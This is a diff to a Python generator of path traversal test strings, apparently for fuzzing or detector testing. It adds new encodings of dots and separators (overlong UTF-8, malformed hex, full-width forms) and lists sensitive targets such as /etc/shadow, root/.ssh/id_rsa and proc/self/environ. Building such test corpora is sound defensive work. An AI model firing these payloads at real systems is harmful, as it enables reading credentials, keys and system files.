@@ -9,7 +9,8 @@ Written from each attack's grammar, not copied from any list:
         eight parent steps: '..', '...', '....//', '..;', '..' with
         trailing dots or spaces) x spelling of '.' and of the separator
         (raw, %XX, %25XX, %uXXXX, overlong UTF-8 of two and three bytes,
-        broken overlong, full-width and look-alike code points, '0x2e')
+        broken overlong, overlong read by its low six bits (%c1%af), hex
+        digits past 'f' a lax decoder still adds up (%bg%qf), full-width and look-alike code points, '0x2e')
         x sensitive target (Unix, Windows, Java, web server, VCS, env)
         x suffix (nothing, NUL before an extension); plus absolute and
         wrapper references without ascent (/etc/passwd, c:\\windows\\win.ini,
@@ -31,10 +32,10 @@ import urllib.parse
 R = random.Random(20)
 
 DOT = ['.', '%2e', '%2E', '%252e', '%u002e', '%c0%ae', '%e0%80%ae', '%c0%2e',
-       '%ef%bc%8e', '0x2e', '%25c0%25ae', '%f0%80%80%ae']
+       '%ef%bc%8e', '0x2e', '%25c0%25ae', '%f0%80%80%ae', '%c1%ae', '%uff0e']
 SEP = ['/', '\\', '%2f', '%5c', '%252f', '%255c', '%u2215', '%u2216', '%c0%af',
        '%c1%9c', '%e0%80%af', '%ef%bc%8f', '%c0%5c', '0x2f', '0x5c', '%u002f',
-       '%u005c', '%25c0%25af', '%e2%88%95']
+       '%u005c', '%25c0%25af', '%e2%88%95', '%c1%af', '%c1%1c', '%bg%qf', '%c0%9v']
 UNIX = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'proc/self/environ',
         'proc/self/cmdline', 'proc/1/maps', 'var/log/apache2/access.log',
         'var/log/nginx/error.log', 'root/.ssh/id_rsa', 'root/.bash_history',
